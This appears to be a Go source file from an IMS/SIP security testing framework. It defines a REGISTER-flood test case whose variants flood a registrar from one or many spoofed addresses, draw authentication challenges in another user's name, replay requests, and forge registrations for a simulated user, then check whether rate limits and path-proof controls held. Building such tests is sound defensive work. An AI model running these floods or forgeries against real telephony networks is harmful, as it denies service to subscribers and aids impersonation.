package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strconv"
	"strings"
	"sync"
	"time"

	"imsafe/client/ue"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// registerFlood: REGISTERs faster than anybody's share.
func registerFlood() Attack {
	return Attack{
		ID: "ci.register.flood", Number: "CI-18", Title: "more first REGISTERs than anybody may send",
		Text:     "each costs a look into the HSS, and one with the name of a user a vector: who sends enough leaves nothing for others",
		Services: []Service{Availability}, Stride: Denial, Threats: []Threat{Interruption}, Module: ServicesControl,
		Source: "sippts flood; TS 33.203 6.1.3", Tight: true, Carried: []Access{UDP, TCP},
		Bounds: Bounds{Packets: 900, Bytes: 900_000, Conns: flooded*TightUnproven + 60, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "one-source", Position: OffPath, Access: []Access{TLS}, Run: registerNobodies,
				Controls: []secure.ControlID{secure.CIAvailabilityBudgetSource, secure.CIAvailabilityBudgetVector},
				Ours:     "what tells that the HSS was not asked is imsafe's own answer"},
			{Name: "spoofed", Position: OffPath, Access: []Access{IPsec}, Run: registerFromEverywhere,
				Controls: []secure.ControlID{secure.CIAvailabilityPathProof}},
			{Name: "name", Position: OffPath, Access: []Access{IPsec}, Run: registerInHerName,
				Card: "vectors are those of AKA", Controls: []secure.ControlID{secure.CIAvailabilityPathProof}},
			{Name: "drain", Position: OffPath, Access: []Access{TLS}, Run: drawVectors,
				Card: "vectors are those of AKA", Controls: []secure.ControlID{secure.CIAvailabilityBudgetVector}},
			{Name: "repeated", Position: OffPath, Access: []Access{IPsec}, Run: repeatRegister(1),
				Controls: []secure.ControlID{secure.CIAvailabilityBudgetSource}},
			{Name: "repeated-spoofed", Position: OffPath, Access: []Access{IPsec}, Run: repeatRegister(TightUnproven / 2),
				Controls: []secure.ControlID{secure.CIAvailabilityPathProof}},
		},
	}
}

// nobody is a registration of somebody whom the network does not know: each another one.
func (f *Field) nobody(n int) Registering {
	name := fmt.Sprintf("nobody%d@%s", n, f.Domain)
	return Registering{IMPI: name, IMPU: "sip:" + name, Expires: 600}
}

// flooded is how many times more is sent than is let in at once.
const flooded = 10

// tooManyOf is of how many requests no budget can have let through: of a tight one in the seconds that this takes four times what it lets in at once, and of a budget that is not
// known nearly all.
func (f *Field) tooManyOf(times, budget int) int {
	if f.Foreign {
		return times * 9 / 10
	}
	return 4 * budget
}

// registerNobodies floods from one address.
func registerNobodies(ctx context.Context, f *Field, o *Outcome) error {
	stranger, err := f.StrangerAt(ctx, Elsewhere(0))
	if err != nil {
		return err
	}
	const times, atOnce = flooded * TightSource, heardAtMost / 2
	served, busy := 0, 0
	for i := range times {
		r := f.nobody(i)
		if err := stranger.Write(stranger.Registers(r, stranger.NoResponse(r.IMPI))); err != nil {
			return err
		}
		for i-served-busy >= atOnce || i == times-1 && served+busy < times {
			m, err := stranger.Await(ctx, isFinal)
			if err != nil {
				return err
			}
			if m.Status() == 503 {
				busy++
			} else {
				served++
			}
		}
	}
	o.Arrived("%d REGISTERs, %d at a time, of which %d are turned away", times, atOnce, busy)
	o.Wire(served > f.tooManyOf(times, TightSource), "the HSS is asked for %d of %d", served, times)
	return judgeServed(ctx, f, o)
}

// drawVectors asks for challenges in one name, by REGISTERs without an answer and by such that answer a challenge which nobody has sent.
func drawVectors(ctx context.Context, f *Field, o *Outcome) error {
	stranger, err := f.StrangerAt(ctx, Elsewhere(0))
	if err != nil {
		return err
	}
	const times = flooded * TightChallenges
	challenges := 0
	for i := range times {
		r := Registering{IMPI: f.Alice.IMPI, IMPU: f.Alice.IMPU, Expires: 600}
		authorization := stranger.NoResponse(r.IMPI)
		if i%2 > 0 {
			made := fmt.Sprintf("nonce=\"%s\"", f.token())
			authorization = strings.NewReplacer(`nonce=""`, made, `response=""`, `response="00000000000000000000000000000000"`).Replace(authorization)
		}
		answer, err := stranger.Ask(ctx, stranger.Registers(r, authorization))
		if err != nil {
			return err
		}
		if answer.Status() == 401 {
			challenges++
		}
		o.Arrived("%d challenges asked for in alice's name", i+1)
	}
	o.Wire(challenges > times/3, "%d vectors drawn with %d REGISTERs", challenges, times)
	return judgeServed(ctx, f, o)
}

// registerFromEverywhere sends each REGISTER from another address, as one who writes any source into his packets.
func registerFromEverywhere(ctx context.Context, f *Field, o *Outcome) error {
	const times = flooded * TightUnproven
	writer, err := f.StrangerAt(ctx, Elsewhere(0))
	if err != nil {
		return err
	}
	var answered counter
	var all sync.WaitGroup
	defer all.Wait()
	for i := range times {
		conn, err := f.attacker.Dial(ctx, "udp", Elsewhere(1+i), f.Gm)
		if err != nil {
			return fmt.Errorf("attack: %w", err)
		}
		defer conn.Close()
		r := f.nobody(i)
		if _, err := conn.Write([]byte(writer.Registers(r, writer.NoResponse(r.IMPI)))); err != nil {
			return fmt.Errorf("attack: %w", err)
		}
		all.Go(func() { answered.packets(conn) })
	}
	o.Arrived("%d REGISTERs from as many addresses", times)
	if err := judgeServed(ctx, f, o); err != nil {
		return err
	}
	_ = within(ctx, soon, func(ctx context.Context) error { return answered.until(ctx, times) }) // silence is what is hoped for
	n, _ := answered.seen()
	o.Wire(n > f.tooManyOf(times, TightUnproven), "%d of %d addresses that have proven nothing are answered", n, times)
	return nil
}

// repeatRegister sends one REGISTER from each of some addresses over and over, as if no answer had come: that is no new request, and makes no vector, but each
// is read and answered.
func repeatRegister(places int) func(context.Context, *Field, *Outcome) error {
	return func(ctx context.Context, f *Field, o *Outcome) error {
		stranger, err := f.StrangerAt(ctx, Elsewhere(0))
		if err != nil {
			return err
		}
		var answered counter
		var all sync.WaitGroup
		defer all.Wait()
		const times, together = 15 * TightSource, 20
		conns, registers := make([]net.Conn, places), make([]string, places)
		for i := range conns {
			r := f.nobody(i)
			registers[i] = stranger.Registers(r, stranger.NoResponse(r.IMPI))
			if conns[i], err = f.attacker.Dial(ctx, "udp", Elsewhere(1+i), f.Gm); err != nil {
				return fmt.Errorf("attack: %w", err)
			}
			defer conns[i].Close()
			all.Go(func() { answered.packets(conns[i]) })
		}
		for sent := range times {
			if _, err := conns[sent%places].Write([]byte(registers[sent%places])); err != nil {
				return fmt.Errorf("attack: %w", err)
			}
			switch {
			case sent == places-1: // before the first answers there is nothing to be sent again
				err = answered.until(ctx, places)
			case sent%together == 0: // no faster than answers come, where they come
				_ = within(ctx, soon/10, func(ctx context.Context) error { return answered.until(ctx, sent+1) })
			}
			if err != nil {
				return err
			}
		}
		o.Arrived("%d REGISTERs, sent %d times in all", places, times)
		_ = within(ctx, soon, func(ctx context.Context) error { return answered.until(ctx, times) }) // silence is what is hoped for
		n, _ := answered.seen()
		o.Wire(n > times*9/10, "%d of %d copies are answered", n, times)
		return judgeServed(ctx, f, o)
	}
}

// registerInHerName forges REGISTERs of carol's from ever other addresses, and goes on while she switches her telephone on, at an address where nobody was before.
func registerInHerName(ctx context.Context, f *Field, o *Outcome) error {
	writer, err := f.StrangerAt(ctx, Elsewhere(0))
	if err != nil {
		return err
	}
	const before, meanwhile = 3 * TightChallenges, 10
	at := 0
	forge := func(times int) error {
		for range times {
			at++
			conn, err := f.attacker.Dial(ctx, "udp", Elsewhere(at), f.Gm)
			if err != nil {
				return fmt.Errorf("attack: %w", err)
			}
			_, err = conn.Write([]byte(writer.Registers(Registering{IMPU: f.Users[Carol].IMPU, Expires: 600}, writer.NoResponse(f.Users[Carol].IMPI))))
			if err := errors.Join(err, conn.Close()); err != nil { // he does not receive there
				return fmt.Errorf("attack: %w", err)
			}
		}
		return nil
	}
	if err := forge(before); err != nil {
		return err
	}
	carol, err := f.party(ctx, Carol, func(c *ue.Config) { c.Local = Elsewhere(before + meanwhile + 1) })
	if err != nil {
		return err
	}
	registered := make(chan error, 1)
	go func() {
		registered <- within(ctx, 2*time.Second, func(ctx context.Context) error {
			_, err := carol.UE.Register(ctx)
			return err
		})
	}()
	if err := forge(meanwhile); err != nil {
		return err
	}
	o.Arrived("%d REGISTERs in carol's name from as many addresses", at)
	if err := <-registered; err != nil {
		o.Users = 1
		o.Peer(true, "carol cannot register where she never was: %v", err)
		return nil
	}
	o.Peer(false, "carol registers where she never was")
	if err := f.passesOn(ctx, o, writer, at+1); err != nil {
		return err
	}
	return judgeServed(ctx, f, o)
}

// passesOn has the writer say, from ever other addresses, what he was told where he receives: for how long he may register in carol's name.
func (f *Field) passesOn(ctx context.Context, o *Outcome, writer *Hand, at int) error {
	const times = 2 * TightChallenges
	r := Registering{IMPU: f.Users[Carol].IMPU, Expires: 600}
	var told *sip.Message
	status, err := writer.answeredBy(ctx, writer.Registers(r, writer.NoResponse(f.Users[Carol].IMPI)), &told)
	if err != nil || status != 423 {
		return err
	}
	if r.Expires, err = strconv.Atoi(string(told.Get(sip.HdrMinExpires))); err != nil {
		return fmt.Errorf("attack: an interval: %w", err)
	}
	challenged := 0
	for i := range times {
		h, err := f.StrangerAt(ctx, Elsewhere(at+1+i))
		if err != nil {
			return err
		}
		status, err := h.answered(ctx, h.Registers(r, h.NoResponse(f.Users[Carol].IMPI)))
		if err != nil {
			return err
		}
		if status == 401 {
			challenged++
		}
	}
	o.Wire(challenged > times/2, "of %d REGISTERs with the interval of another address %d are challenged", times, challenged)
	return nil
}
